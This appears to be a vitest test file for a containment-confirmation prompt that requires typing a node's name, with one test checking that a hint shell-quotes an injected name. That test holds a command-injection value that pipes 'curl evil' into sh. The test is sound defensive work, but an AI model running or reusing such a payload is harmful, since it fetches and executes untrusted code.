import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { confirmContainment } from './confirm-containment.js';

const { signal } = new AbortController();
const QUESTION = { question: 'node worker-3 is contained.', word: 'worker-3' };

async function answer(typed: string, answers: { yes: boolean; mayAsk: boolean }, given?: string): Promise<void> {
  const input = new PassThrough();
  input.end(`${typed}\n`);
  await confirmContainment({ ...QUESTION, given }, { ...answers, signal }, { input, output: new PassThrough() });
}

describe('the confirmation of a containment', () => {
  it('is the name, typed or given', async () => {
    await expect(answer('worker-3', { yes: false, mayAsk: true })).resolves.toBeUndefined();
    await expect(answer('', { yes: false, mayAsk: false }, 'worker-3')).resolves.toBeUndefined();
  });

  it.each([
    ['y', { yes: false, mayAsk: true }, undefined],
    ['worker-4', { yes: true, mayAsk: true }, undefined],
    ['worker-3', { yes: true, mayAsk: false }, undefined],
    ['worker-3', { yes: true, mayAsk: true }, 'worker-4'],
  ])('is neither %j with %j, given %j', async (typed, answers, given) => {
    await expect(answer(typed, answers, given)).rejects.toMatchObject({ code: 'DECLINED' });
  });

  it('is asked for with a word that a shell takes as it is', async () => {
    const word = "shop/x'; curl evil | sh; '";
    const asked = confirmContainment({ ...QUESTION, word, given: undefined }, { yes: true, mayAsk: false, signal });
    await expect(asked).rejects.toMatchObject({
      hints: [`Repeat the command with --confirm 'shop/x'\\''; curl evil | sh; '\\'''`],
    });
  });
});
